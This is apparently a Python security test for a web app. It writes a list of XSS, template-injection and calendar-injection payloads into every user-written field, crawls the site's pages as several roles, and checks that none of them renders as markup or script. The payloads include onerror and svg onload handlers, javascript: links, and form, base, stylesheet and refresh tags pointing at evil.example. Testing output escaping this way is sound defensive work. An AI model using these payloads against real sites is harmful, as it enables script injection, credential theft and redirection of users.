"""What somebody has written is text wherever it is shown: on no page does it become markup, script or a template."""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import cycle

from sqlalchemy import update

from organizer.domain.profiles import Challenge, Give, Wish
from organizer.domain.vocabulary import GiveKind, Topic
from organizer.models import metadata
from tests.sprays.conftest import Site
from tests.sprays.walking import visits

PLANTED = "planted"
PAYLOADS = (
    "<xss>planted",
    "\"'><img src=x onerror=alert(1)>planted",
    "</textarea></title></script><script>alert(1)</script>planted",
    "'-alert(1)-' onfocus=alert(1) autofocus planted",
    "<svg/onload=alert(1)>planted",
    "<iframe srcdoc='<script>alert(1)</script>'>planted",
    "{{ 'q' * 9 }}{% print 'q' * 9 %}${'q' * 9} planted",
    "]]><!--<xss>--><?xml?>planted",
    "[planted](javascript:alert(1))",
    "<a href=javascript:alert(1)>planted</a>",
    "%(name)s %s {0} planted",
    "\\u003cxss\\u003e&lt;xss&gt;&#60;xss&#62;planted",
    "</p><form action=//evil.example><input name=csrf_token>planted",
    "<base href=//evil.example>planted",
    "<math><mtext></p><xss>planted",
    "<link rel=stylesheet href=//evil.example>planted",
    "<style>@import '//evil.example'</style>planted",
    "<meta http-equiv=refresh content='0;url=//evil.example'>planted",
    "`onmouseover=alert(1)`planted",
    "planted\r\nBEGIN:VALARM\r\nX-XSS:1",
)
WORDS = {
    "person": "name reading",
    "profile": "company title industry_words value_words",
    "circle": "name description sender_name sender_address sender_contact privacy_notice",
    "event": "title description place address phone cancel_words",
    "target_profile": "name",
    "registration": "topic introducer",
    "check_in": "door",
    "scan": "door",
    "tie": "note",
    "promise": "words",
    "insight": "words",
    "goal": "words",
    "follow_up": "draft",
    "report": "words",
    "exclusion": "note",
}
ROLES = ("owner", "attendee0", "applicant", "nobody")


class _Markup(HTMLParser):
    """Notes what no page of ours ever has: handlers, scripts in the page, foreign tags and addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = dict(attrs)
        runs = tag == "script" and "src" not in said and said.get("type") != "application/ld+json"
        odd = runs or tag in ("xss", "iframe", "style", "base", "math")
        leads = [str(said.get(name, "")).strip().lower() for name in ("href", "src", "action", "formaction")]
        away = [where for where in leads if where.startswith(("javascript:", "//", "data:text"))]
        if odd or away or any(name.startswith("on") for name in said) or "srcdoc" in said:
            self.found.append(f"<{tag} {said}>"[:200])


def _plant(site: Site) -> None:
    """Put one of the payloads into every text that people write, each in its turn."""
    turn = cycle(PAYLOADS)
    for name, columns in WORDS.items():
        table = metadata.tables[name]
        for column in columns.split():
            site.connection.execute(update(table).values({column: next(turn)}))
    first, second = next(turn), next(turn)
    gives = [Give(GiveKind.EXPERIENCE, words, (Topic.HIRING,)).to_data() for words in (first, second)]
    challenges = [Challenge(words, (Topic.HIRING,)).to_data() for words in PAYLOADS[:3]]
    wish = Wish(PAYLOADS[1]).to_data()
    said = {"gives": gives, "challenges": challenges, "wish": wish}
    contact = {"mail": True, "line": PAYLOADS[4], "web": "javascript:alert(1)"}
    profile, registration = metadata.tables["profile"], metadata.tables["registration"]
    site.connection.execute(update(profile).values(**said, serve=wish, contact=contact))
    answers = {"gives": gives, "wish": wish, "today": PAYLOADS[2]}
    site.connection.execute(
        update(registration).values(answers=answers, profile={**said, "company": PAYLOADS[0]})
    )


def _faults(body: str, kind: str) -> Iterator[str]:
    if kind == "text/html":
        markup = _Markup()
        markup.feed(body)
        yield from markup.found
    if "q" * 9 in body:
        yield "a template was run"
    if kind == "text/calendar" and any(
        line.startswith(("X-XSS", "BEGIN:VALARM")) for line in body.splitlines()
    ):
        yield "a line was slipped into the calendar"


def test_nothing_that_was_written_becomes_more_than_text(site: Site) -> None:
    shown, faults = set(), []
    with site.undone():
        _plant(site)
        for visit in (visit for role in ROLES for visit in visits(site.actors, role, pictures=False)):
            if visit.status >= 500:
                faults.append(f"{visit.role} {visit.address}: {visit.status}")
            if visit.mimetype not in ("text/html", "text/calendar", "application/json"):
                continue
            if PLANTED in visit.text:
                shown.add(visit.endpoint)
            faults += [
                f"{visit.role} {visit.address}: {fault}" for fault in _faults(visit.text, visit.mimetype)
            ]
    assert not faults, "\n".join(faults[:20])
    assert len(shown) > 30, sorted(shown)
